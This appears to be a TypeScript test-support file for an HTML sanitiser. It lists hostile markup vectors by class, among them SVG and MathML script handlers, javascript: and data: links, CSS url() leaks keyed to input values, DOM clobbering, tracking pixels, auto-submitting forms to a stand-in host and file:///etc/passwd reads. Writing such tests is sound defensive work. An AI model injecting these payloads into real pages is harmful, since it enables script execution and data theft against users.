import { type HostileClass, markupClasses } from './hostile-markup.test-support.ts';

/** Every class of security.md 2.5 and rows 87 to 98. `x()` stands for what must not run, c.example for whom nobody may ask. */
export const hostileClasses: readonly HostileClass[] = [
  ...markupClasses,
  {
    row: 89,
    about: 'drawings and formulas',
    vectors: [
      ['svg script', '<svg><script>x()</script><script href="data:,x()"/></svg>'],
      ['svg onload', '<svg onload=x()><animate onbegin=x() attributeName=x dur=1s /></svg>'],
      [
        'svg use',
        '<svg><use href="data:image/svg+xml,<svg id=a onload=x()></svg>#a"/><use xlink:href="https://c.example/s#a"/></svg>',
      ],
      [
        'svg animated link',
        '<svg><a><animate attributeName=href values="javascript:x()"/><text>a</text></a></svg>',
      ],
      [
        'svg foreignObject',
        '<svg><foreignObject><iframe src="javascript:x()"></iframe><p onclick=x()>a</p></foreignObject></svg>',
      ],
      ['math link', '<math href="javascript:x()"><mi xlink:href="javascript:x()">a</mi></math>'],
      ['data svg', `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>">`],
      [
        'drawing with handlers of links',
        '<svg><a xlink:href="javascript:x()"><rect width=9 height=9 /></a><set attributeName=onload to=x() /></svg>',
      ],
      [
        'drawing with a handler element',
        '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>x()</handler></svg>',
      ],
      [
        'drawing with a picture and a filter',
        '<svg><image href="https://c.example/i"/><feImage xlink:href="https://c.example/f"/><filter id=f><feImage href="https://c.example/g"/></filter></svg>',
      ],
      [
        'drawing in base64',
        '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0ieCgpIi8+">',
      ],
      [
        'formula with actions',
        '<math><maction actiontype="statusline#https://c.example/" xlink:href="javascript:x()">a<mtext>b</mtext></maction></math>',
      ],
      [
        'formula with an address on its root',
        '<math><mrow href="javascript:x()" xml:base="javascript:"><mi href="data:text/html,x">y</mi></mrow></math>',
      ],
      [
        'foreign names in capitals',
        '<SVG><ScRiPt>x()</ScRiPt><FOREIGNOBJECT><IMG SRC=x ONERROR=x()></FOREIGNOBJECT></SVG>',
      ],
    ],
  },
  {
    row: 90,
    about: 'addresses that run or open',
    vectors: [
      ['javascript link', '<a href="javascript:x()">a</a>'],
      ['javascript in capitals with spaces', '<a href="  JaVaScRiPt:x()">a</a>'],
      [
        'javascript with a tab and a line end CVE-2026-46650',
        '<a href="java\tscr\nipt:x()">a</a><a href="https://a.example#javascript:x()">b</a>',
      ],
      [
        'javascript by entities',
        '<a href="&#106;avascript&colon;x()">a</a><a href="&#x6A&#x61vascript:x()">b</a>',
      ],
      [
        'javascript after a control character',
        '<a href="\u0001javascript:x()">a</a><a href="\u00a0javascript:x()">b</a>',
      ],
      [
        'vbscript and others',
        '<a href="vbscript:x()">a</a><a href="livescript:x()">b</a><a href="jar:https://c.example!/x">c</a>',
      ],
      ['data link', '<a href="data:text/html,<script>x()</script>">a</a>'],
      ['blob and file', '<a href="blob:https://a.example/1">a</a><a href="file:///etc/passwd">b</a>'],
      [
        'UNC and protocol-relative CVE-2023-33727',
        '<a href="\\\\host\\share">a</a><a href="//host/x">b</a><img src="//c.example/p">',
      ],
      [
        'system handlers CVE-2022-40277',
        '<a href="ms-msdt:/id">a</a><a href="search-ms:q">b</a><a href="smb://h/s">c</a><a href="obsidian://open">d</a>',
      ],
      [
        'area CVE-2023-33726',
        '<map name=m><area shape=default href="javascript:x()"></map><img usemap=#m src=x>',
      ],
      [
        'cite',
        '<blockquote cite="javascript:x()">a</blockquote><q cite="data:text/html,x">b</q><del cite="vbscript:x()">c</del>',
      ],
      [
        'javascript with entities between',
        '<a href="jav&#x09;ascript:x()">a</a><a href="jav&NewLine;ascript:x()">b</a><a href="javascript&#58;x()">c</a>',
      ],
      ['javascript behind a base', '<base href="javascript:/a/-x()"><a href="//b">a</a>'],
      ['javascript with a comment for an address', '<a href="javascript://a.example/%0ax()">a</a>'],
      [
        'unanchored address CVE-2026-46650',
        '<a href="x:https://a.example/">a</a><a href="javascript:x()//https://a.example/">b</a>',
      ],
      [
        'view-source, intent, market',
        '<a href="view-source:https://a.example">a</a><a href="intent://x#Intent;end">b</a><a href="market://x">c</a>',
      ],
      [
        'addresses with a name and a secret',
        '<a href="https://user:secret@a.example/">a</a><a href="https://a.example@c.example/">b</a>',
      ],
      [
        'mail with headers',
        '<a href="mailto:a@a.example?body=%0d%0aBcc:b@c.example&attach=/etc/passwd">a</a>',
      ],
      [
        'addresses of our own scheme',
        '<a href="verbatim://save?url=https://c.example">a</a><a href="app://bundle/">b</a><a href="app://media/../x">c</a>',
      ],
      [
        'relative addresses of the host',
        '<a href="/api/call">a</a><a href="?x">b</a><a href="resources/captures/x/html">c</a>',
      ],
    ],
  },
  {
    row: 91,
    about: 'elements that navigate or load beforehand',
    vectors: [
      [
        'link CVE-2020-28249',
        '<link rel=stylesheet href="https://c.example/s.css"><link rel=dns-prefetch href="//c.example">',
      ],
      ['modulepreload', '<link rel=modulepreload href="https://c.example/m.js">'],
      ['meta refresh', '<meta http-equiv=refresh content="0;url=https://c.example/">'],
      ['base', '<base href="https://c.example/"><a href="x">a</a>'],
      [
        'refresh in other spellings',
        '<meta HTTP-EQUIV="refresh" content="0;url=javascript:x()"><meta http-equiv=refresh content="0; data:text/html,x">',
      ],
      [
        'policies of the page',
        '<meta http-equiv=content-security-policy content="default-src *"><meta name=referrer content=unsafe-url><meta charset=utf-7>',
      ],
      [
        'prefetch, preload, preconnect',
        '<link rel=prefetch href="https://c.example/1"><link rel=preload as=image href="https://c.example/2"><link rel=preconnect href="https://c.example"><link rel=prerender href="https://c.example/3"><link rel=icon href="https://c.example/4">',
      ],
      [
        'speculation rules',
        '<script type=speculationrules>{"prefetch":[{"urls":["https://c.example/s"]}]}</script>',
      ],
      [
        'manifest and import',
        '<link rel=manifest href="https://c.example/m"><link rel=import href="https://c.example/i"><html manifest="https://c.example/a">',
      ],
    ],
  },
  {
    row: 92,
    about: 'styles that ask somebody',
    vectors: [
      [
        'style element',
        '<style>@import url(https://c.example/s);p{background:url(https://c.example/b)}</style><p>a',
      ],
      ['style with a comment', '<p style="width:expr/**/ession(x())">a</p>'],
      [
        'selectors that spell a secret',
        '<style>a[href^="h"]{background:url(https://c.example/h)}:visited{background:url(https://c.example/v)}input[value^=a]{background:url(https://c.example/a)}</style><a href="https://a.example">a</a>',
      ],
      [
        'fonts and cursors',
        '<style>@font-face{font-family:f;src:url(https://c.example/f)}</style><p style="font-family:f;cursor:url(https://c.example/c),auto">a</p>',
      ],
      [
        'style by image-set and variables',
        '<p style="--x:url(https://c.example/x);background:var(--x);list-style-image:image-set(\'https://c.example/y\' 1x);content:url(https://c.example/z)">a</p>',
      ],
      [
        'imports by a link and by a drawing',
        '<svg><style>@import "https://c.example/i";</style></svg><link rel=stylesheet href="data:text/css,@import url(https://c.example/j)">',
      ],
      [
        'bindings and behaviours',
        '<p style="-moz-binding:url(https://c.example/b);behavior:url(https://c.example/h);filter:url(https://c.example/f#x)">a</p>',
      ],
    ],
  },
  {
    row: 93,
    about: 'parts that would cover the window',
    vectors: [
      [
        'style attribute',
        '<p style="background:url(https://c.example/b);position:fixed;inset:0;z-index:9999">a</p>',
      ],
      ['class of ours', '<p class="toolbar app-button">a</p>'],
      [
        'cover over all',
        '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff;width:100vw;height:100vh;pointer-events:all">Please log in again</div>',
      ],
      ['giant words', '<p style="font-size:9999px;transform:scale(99)">a</p><font size=+99>b</font>'],
      [
        'endless movement',
        '<marquee behavior=alternate scrollamount=9999 width=99999>a</marquee><p style="animation:x 1ms infinite">b</p>',
      ],
      [
        'a top layer',
        '<dialog open style="width:100vw;height:100vh">a</dialog><div popover=manual id=p>b</div><button popovertarget=p>c</button>',
      ],
    ],
  },
  {
    row: 94,
    about: 'frames, plug-ins, forms and what focuses or opens itself',
    vectors: [
      ['embed CVE-2020-15930', '<embed src="https://c.example/x" onload=x()>'],
      ['object', '<object data="data:text/html,<script>x()</script>"><param name=a value=b>text</object>'],
      ['applet', '<applet code=x archive="https://c.example/a.jar">text</applet>'],
      ['iframe', '<iframe src="https://c.example/"></iframe>'],
      ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;parent.x()&lt;/script&gt;">'],
      [
        'portal and fenced frame',
        '<portal src="https://c.example/"></portal><fencedframe src="https://c.example/"></fencedframe>',
      ],
      ['frameset', '<frameset onload=x()><frame src="javascript:x()"></frameset>'],
      ['dialog and popover', '<dialog open onclose=x()>a</dialog><div popover onbeforetoggle=x()>b</div>'],
      ['details ontoggle', '<details open ontoggle=x()><summary>a</summary>b</details>'],
      ['autofocus onfocus', '<p tabindex=1 autofocus onfocus=x() contenteditable>a</p>'],
      [
        'form CVE-2021-37916',
        '<form action="https://c.example/"><input name=a><button formaction="javascript:x()">b</button></form>',
      ],
      ['input image', '<input type=image src=x onerror=x()><input autofocus onfocus=x()>'],
      [
        'select and textarea',
        '<select onchange=x() autofocus><option>a</select><textarea autofocus onfocus=x()>b</textarea>',
      ],
      ['outside form attributes', '<button form=f formmethod=post>a</button><output for=a name=b>c</output>'],
      [
        'frame with everything allowed',
        '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" allow="camera *; microphone *" src="javascript:parent.x()" onload=x()></iframe>',
      ],
      [
        'embed of a player revived by data CVE-2026-104077',
        '<div class=embed data-embed-src="https://c.example/e" data-html="<iframe src=javascript:x()>"></div>',
      ],
      [
        'deck frames GHSA-j9v5-m549-cg6c',
        '<iframe src="file:///etc/passwd"></iframe><img src="file:///etc/passwd"><iframe src="/resources/captures/x/html"></iframe>',
      ],
      [
        'form that sends itself',
        '<form id=f action="https://c.example/f" method=post><input type=submit autofocus onfocus="form.submit()"></form><input type=image form=f src="https://c.example/i">',
      ],
      [
        'things that focus themselves',
        '<textarea autofocus onfocus=x()></textarea><summary tabindex=0 autofocus onfocus=x()>a</summary><a href=# autofocus onfocus=x()>b</a>',
      ],
      [
        'details of one name',
        '<details name=a open ontoggle=x()><summary>a</summary><img src=x onerror=x()></details><details name=a open>b</details>',
      ],
      [
        'commands and interest',
        '<button commandfor=d command=show-modal interestfor=d>a</button><dialog id=d oncommand=x() onclose=x()>b</dialog>',
      ],
    ],
  },
  {
    row: 95,
    about: 'names that stand in the way of ours',
    vectors: [
      [
        'ids of ours',
        '<p id=body>a</p><p id=__proto__>b</p><a id=getElementById href="#x">c</a><p id="constructor">d</p>',
      ],
      [
        'clobbered form',
        '<form id=a><input name=attributes><input name=parentNode><input name=nodeName><input id=childNodes></form>',
      ],
      [
        'clobbered document',
        '<img name=createElement><img name=body id=x><form name=querySelector></form><embed name=implementation>',
      ],
      ['two of a name', '<a id=location></a><a id=location name=href href="https://c.example/">a</a>'],
      [
        'names of prototypes',
        '<p id=__proto__ title=a>a</p><p id=hasOwnProperty>b</p><p id=toString>c</p><img name=__proto__ src=x alt=d>',
      ],
      [
        'names of the reading frame',
        '<main class=text id=text>a</main><header class=head>b</header><footer class=foot>c</footer><div id=root>d</div>',
      ],
      [
        'clobbered child nodes',
        '<form><input name=childNodes><input name=firstChild><input name=removeChild><input name=ownerDocument><img src=x onerror=x()></form>',
      ],
    ],
  },
  {
    row: 96,
    about: 'pictures and players that tell on the reader',
    vectors: [
      [
        'video and audio',
        '<video src=x onerror=x() poster="https://c.example/p"><source src=y onerror=x()></video><audio src=z autoplay>',
      ],
      [
        'srcset and picture',
        '<picture><source srcset="https://c.example/1 2x"><img srcset="https://c.example/2" src="https://c.example/3"></picture>',
      ],
      ['tracking pixel', '<img src="https://c.example/p?u=1" width=1 height=1>'],
      [
        'background attributes',
        '<table background="https://c.example/t"><tr><td background="https://c.example/d">a</table>',
      ],
      ['longdesc, lowsrc, dynsrc', '<img longdesc="javascript:x()" lowsrc="https://c.example/l" dynsrc=x>'],
      [
        'players with tracks',
        '<video controls autoplay src="https://c.example/v"><track src="https://c.example/t" default></video><audio src="https://c.example/a" autoplay loop></audio>',
      ],
      [
        'reporting',
        '<a href="https://a.example/" attributionsrc="https://c.example/r" ping="https://c.example/p">a</a><img attributionsrc="https://c.example/i" src=x alt=b>',
      ],
      [
        'lazy trackers',
        '<img loading=lazy data-src="https://c.example/l" width=1 height=1><noscript><img src="https://c.example/n" width=1 height=1></noscript>',
      ],
      [
        'beacons of style',
        '<body background="https://c.example/b"><table background="https://c.example/t"><td background="https://c.example/d">a</table>',
      ],
    ],
  },
  {
    row: 97,
    about: 'data: addresses',
    vectors: [
      ['huge data url', `<img src="data:image/png;base64,${'A'.repeat(200_000)}">`],
      [
        'asset of another page',
        '<img src="asset:../../../etc/passwd"><img src="asset:0123"><img src="ASSET:missing">',
      ],
      [
        'data page in a picture',
        '<img src="data:text/html,<script>x()</script>" alt=a><img src="data:image/png;base64,!!!!" alt=b>',
      ],
      [
        'data in data',
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://c.example/n'/></svg>\" alt=a>",
      ],
    ],
  },
  {
    row: 98,
    about: 'windows',
    vectors: [
      [
        'target, ping, download',
        '<a href="https://a.example/" target=_blank ping="https://c.example/p" download rel=opener>a</a>',
      ],
      [
        'windows by name',
        '<a href="https://a.example/" target=app>a</a><a href="https://b.example/" target=_top>b</a><a href="https://c.example/w" target=_parent rel=opener>c</a>',
      ],
      [
        'links in maps and drawings to other windows',
        '<map name=n><area href="https://c.example/m" target=_blank shape=default></map><img usemap=#n src=x alt=a>',
      ],
    ],
  },
];

/** All of them. */
export const hostileVectors: [name: string, html: string][] = hostileClasses.flatMap(
  ({ vectors }) => vectors,
);
